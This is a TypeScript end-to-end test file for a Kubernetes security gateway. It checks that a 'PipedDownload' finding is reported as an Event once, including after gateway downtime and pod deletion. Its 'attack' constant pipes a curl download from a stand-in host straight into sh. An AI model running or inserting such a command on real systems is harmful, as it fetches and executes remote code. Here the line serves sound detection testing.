import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import { type InternetServer, startServer } from '../internet.ts';
import { awaitCondition, createObject, get, type KubeObject, kubectl, list, logs } from '../kubectl.ts';
import { plainPod } from '../plain-pod.ts';
import { ensureInstalled, gatewayDeployment, scale, systemNamespace } from '../release.ts';
import { setStage } from '../stage.ts';
import { until } from '../until.ts';

const namespace = 'told';
const mirror = '203.0.113.6:8080';
/** Pipes a download into a shell, a finding, and goes on. */
const attack = `date +%s%3N; curl -s -m 5 http://${mirror}/ | sh; echo done; exec sleep 600`;

describe('what is found is told: at once, when the gateway is back, and when the pod was killed meanwhile', () => {
  const stage = setStage('findings-told', import.meta.dirname, [namespace]);
  let server: InternetServer;
  let replicas: number;

  before(() =>
    stage.guard(async () => {
      await awaitCondition(namespace, 'agentpolicy/watch', 'Ready');
      replicas = (await get(systemNamespace, gatewayDeployment)).spec.replicas;
      server = await startServer([mirror]);
    }),
  );
  after(async () => {
    await server.stop();
    await ensureInstalled();
  });

  /** Events about findings of a pod, also of one that is gone. */
  async function toldOf(pod: string): Promise<KubeObject[]> {
    const events = await list('events.events.k8s.io', '-n', namespace);
    return events.filter(({ reason, regarding }) => reason === 'PipedDownload' && regarding.name === pod);
  }

  async function startAttack(name: string): Promise<KubeObject> {
    const pod = await createObject(plainPod(namespace, name, attack));
    await until(`${name} to have done it`, 60, async () => (await logs(namespace, name, 'runner')).includes('done'));
    return pod;
  }

  test('at once', (context) =>
    stage.guard(async () => {
      await startAttack('watched');
      const [event] = await until('its Event', 30, async () => {
        const told = await toldOf('watched');
        return told.length > 0 && told;
      });
      const began = Number((await logs(namespace, 'watched', 'runner')).split('\n')[0]);
      context.diagnostic(`from before the attack to the Event: ${Date.parse(event?.eventTime) - began} ms`);
    }));

  test('once the gateway is back', () =>
    stage.guard(async () => {
      await scale(gatewayDeployment, 0);
      await startAttack('patient');
      await scale(gatewayDeployment, replicas);
      await until('its Event', 60, async () => (await toldOf('patient')).length === 1);
    }));

  test('by the operator, of a pod that was killed while the gateway was away', () =>
    stage.guard(async () => {
      await scale(gatewayDeployment, 0);
      await startAttack('killed');
      await kubectl('delete', 'pod', '-n', namespace, 'killed', '--grace-period=1');
      await scale(gatewayDeployment, replicas);
      const [event] = await until('its Event', 60, async () => {
        const told = await toldOf('killed');
        return told.length > 0 && told;
      });
      assert.match(event?.note, /203\.0\.113\.6/);
    }));

  test('nothing of it twice', async () => {
    for (const name of ['watched', 'patient', 'killed']) assert.equal((await toldOf(name)).length, 1, name);
  });
});
